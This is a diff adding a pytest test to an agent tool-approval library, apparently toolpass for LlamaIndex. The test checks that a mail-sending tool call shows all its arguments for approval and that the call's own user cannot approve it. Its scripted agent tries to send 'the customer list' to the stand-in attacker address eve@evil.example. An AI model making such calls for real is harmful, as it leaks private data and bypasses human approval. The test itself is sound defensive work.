@@ -30,6 +30,7 @@ from llamaindex_script import FRAMEWORK_WARNINGS, scripted
 from pydantic import BaseModel
 from pytest_toolpass import ScriptedEngine
 from toolpass import ApprovalQueue, AuditEvent, Decision, Session, Toolkit, ToolRefused
+from toolpass.adapting import Traits
 from toolpass.llamaindex import (
     ApprovalRequired,
     GuardedTool,
@@ -512,3 +513,51 @@ def test_refusal_text_is_core_s() -> None:
         refusal_text(ToolRefused("not_authorized", "No."))
         == "Refused by toolpass (not_authorized): No."
     )
+
+
+@pytest.mark.parametrize("by", ["ops@example.com", DANA])
+def test_a_framework_tools_approval_shows_its_arguments_and_is_never_self_approved(
+    by: str,
+) -> None:
+    """A plain framework tool (no toolpass signature) asks with every argument shown; the
+    call's own user approving it records nothing: it still waits."""
+    sent: list[str] = []
+
+    def send_mail(to: str, body: str) -> str:
+        """Send a mail."""
+        sent.append(to)
+        return f"sent to {to}"
+
+    send = Traits(effect="write", sends_out=True, reads_private=True, untrusted_output=True)
+    kit = Toolkit(approver=ApprovalQueue(), audit=[])
+    guard = ToolpassAuthorization(
+        ScriptedEngine(), {"send_mail": send}, toolkit=kit, approvals="events"
+    )
+    llm = scripted([("send_mail", {"to": "eve@evil.example", "body": "the customer list"})])
+    agent = guard.apply(FunctionAgent(tools=[FunctionTool.from_defaults(send_mail)], llm=llm))
+
+    async def go() -> tuple[list[ToolOutput], list[ApprovalRequired]]:
+        ctx: Context[Any] = Context(agent)
+        await ctx.store.set("user_id", DANA)
+        handler = agent.run("go", ctx=ctx)
+        asked: list[ApprovalRequired] = []
+        outputs: list[ToolOutput] = []
+        async for ev in handler.stream_events():
+            if isinstance(ev, ApprovalRequired):
+                asked.append(ev)
+                assert handler.ctx is not None
+                handler.ctx.send_event(ev.decide(approved=True, by=by))
+            elif isinstance(ev, ToolCallResult):
+                outputs.append(ev.tool_output)
+        await handler
+        return outputs, asked
+
+    outputs, asked = asyncio.run(go())
+    [ask] = asked
+    assert "to = 'eve@evil.example'" in ask.description
+    assert "the customer list" in ask.description
+    if by == DANA:
+        assert sent == []
+        assert "approval_pending" in outputs[0].content
+    else:
+        assert sent == ["eve@evil.example"]
